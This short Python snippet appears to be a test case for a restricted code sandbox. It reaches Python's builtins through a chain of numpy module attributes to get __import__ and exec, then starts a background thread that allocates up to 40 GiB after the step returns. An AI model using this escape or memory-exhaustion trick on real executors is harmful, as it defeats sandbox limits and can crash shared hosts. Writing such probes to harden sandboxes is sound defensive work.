# attempts: a thread keeps allocating and touching 512 MiB blocks (up to 40 GiB) after the step returned
# effect: memory
# step: allocate later
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
code = '''
import numpy as np
keep = []
for i in range(80):
    keep.append(np.empty(2**26))      # 512 MiB
    keep[-1][::512] = 1.0             # touch every page
'''
imp('threading').Thread(target=B.exec, args=(code, {}), daemon=True).start()
# step: carry on
x = 1
